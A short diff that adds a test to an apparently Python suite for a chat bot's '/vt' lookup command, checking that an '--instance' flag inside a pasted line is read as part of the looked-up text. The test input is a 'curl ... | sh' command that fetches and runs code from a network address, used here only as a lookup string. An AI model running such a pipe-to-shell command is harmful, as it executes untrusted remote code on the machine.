@@ -205,6 +205,13 @@ async def test_options_that_do_not_fit(database, listed):
         assert "Did you mean --instance?" in mention.text
 
 
+async def test_another_programs_option_in_a_pasted_line(database, listed):
+    """It is no instance of ours, and the line is looked up."""
+    async with chosen(database, listed()) as app:
+        assert last(await said(app, f"/vt curl --instance i-0a1b http://{IP}/x | sh")) == MAIN
+        assert last(await said(app, f"/vt curl --instance lab http://{IP}/x | sh")) == LAB
+
+
 async def test_who_may_not_use_an_instance(database, listed, virustotals):
     """Ana may not, Ben and the workspace's admin may; nobody is answered by another instance instead."""
     async with chosen(database, listed(lab="allowed_users = ['ben']\nchannels = ['general']")) as app:
